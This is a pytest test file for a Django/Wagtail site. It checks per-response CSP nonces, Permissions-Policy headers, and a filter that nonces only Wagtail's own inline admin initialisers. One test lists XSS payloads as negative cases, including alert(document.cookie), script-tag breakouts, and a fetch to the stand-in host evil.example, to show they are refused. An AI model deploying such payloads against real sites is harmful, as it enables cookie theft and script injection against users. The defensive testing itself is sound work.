"""Every page answers with a strict Content-Security-Policy and a Permissions-Policy;
in the Wagtail admin only Wagtail's own inline initialisers get the nonce."""

import re

import pytest

from allas_site.core import admin_scripts

pytestmark = pytest.mark.django_db


def policy_of(response):
    return dict(
        (part.strip().split(" ", 1) + [""])[:2]
        for part in response["Content-Security-Policy"].split(";")
    )


@pytest.mark.parametrize("path", ["/", "/en/", "/cuentas/login/", "/no-existe/", "/api/v2/pages/"])
def test_public_answers_carry_the_policies(client, home_page, path):
    response = client.get(path)
    policy = policy_of(response)
    assert policy["script-src"].startswith("'self' 'nonce-")
    assert "unsafe-inline" not in policy["script-src"]
    assert "unsafe-eval" not in policy["script-src"]
    assert policy["object-src"] == "'none'"
    assert policy["frame-ancestors"] == "'self'"
    assert "camera=()" in response["Permissions-Policy"]
    assert "geolocation=()" in response["Permissions-Policy"]


def test_each_answer_has_its_own_nonce(client, home_page):
    first = policy_of(client.get("/"))["script-src"]
    second = policy_of(client.get("/"))["script-src"]
    assert first != second


def test_cached_pages_get_a_policy_too(client, home_page, settings):
    settings.PAGE_CACHE_SECONDS = 60
    client.get("/cuadernos/")
    again = client.get("/cuadernos/")
    assert "Content-Security-Policy" in again


def test_admin_pages_carry_the_policy_and_nonce_wagtails_initialisers(client, superuser):
    client.force_login(superuser)
    response = client.get("/admin/users/")  # its filters have Wagtail's date pickers
    html = response.content.decode()
    nonce = policy_of(response)["script-src"].split("'nonce-")[1].rstrip("'")
    bare = [body for attrs, body in re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S)
            if "src=" not in attrs and "json" not in attrs and f'nonce="{nonce}"' not in attrs]
    assert bare == []
    assert html.count(f'<script nonce="{nonce}">initDateChooser(') >= 1


@pytest.mark.parametrize(
    "body",
    [
        'initDateChooser("id_publication_date", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
        'initDateTimeChooser("id_go_live_at", {"format": "Y-m-d H:i", "parentID": "#x"});',
        'new ImageChooser("id_cover_image", {"modalUrl": "/admin/images/chooser/"});',
        'new PageChooser("id_page", {"modelNames": ["wagtailcore.page"], "userPerms": null});',
        'createTaskChooser("id_tasks-0-task");',
        '(function() {\n    var panel = new InlinePanel(JSON.parse('
        '"{\\u0022type\\u0022: \\u0022InlinePanel\\u0022}"));\n})();',
    ],
)
def test_wagtail_initialisers_are_recognised(body):
    assert admin_scripts.is_wagtail_initialiser(body)


@pytest.mark.parametrize(
    "body",
    [
        "alert(document.cookie)",
        'initDateChooser("id_x", {"a": alert(1)});',  # not JSON: code in the options
        'initDateChooser("id_x", {});alert(1);',
        'new ImageChooser("id_x");fetch("//evil.example")',
        'initDateChooser("x\\"), alert(1), (\\"", {});',
        '(function() { var panel = new InlinePanel(JSON.parse("x"+alert(1))); })();',
        'new ImageChooser("id_x", {"u": "</script><script>alert(1)"});',
    ],
)
def test_anything_else_inline_gets_no_nonce(body):
    assert not admin_scripts.is_wagtail_initialiser(body)
    html = admin_scripts.add_nonces(f"<p>x</p><script>{body}</script>", "N")
    assert 'nonce="N"' not in html


def test_the_length_header_follows_the_nonced_body(rf):
    from django.http import HttpResponse

    from allas_site.core.security_headers import SecurityHeadersMiddleware

    body = '<script>initDateChooser("id_x", {"format": "Y-m-d"});</script>'
    original = HttpResponse(body)
    original["Content-Length"] = str(len(original.content))
    response = SecurityHeadersMiddleware(lambda request: original)(rf.get("/admin/x/"))
    assert b"nonce=" in response.content
    assert response["Content-Length"] == str(len(response.content))
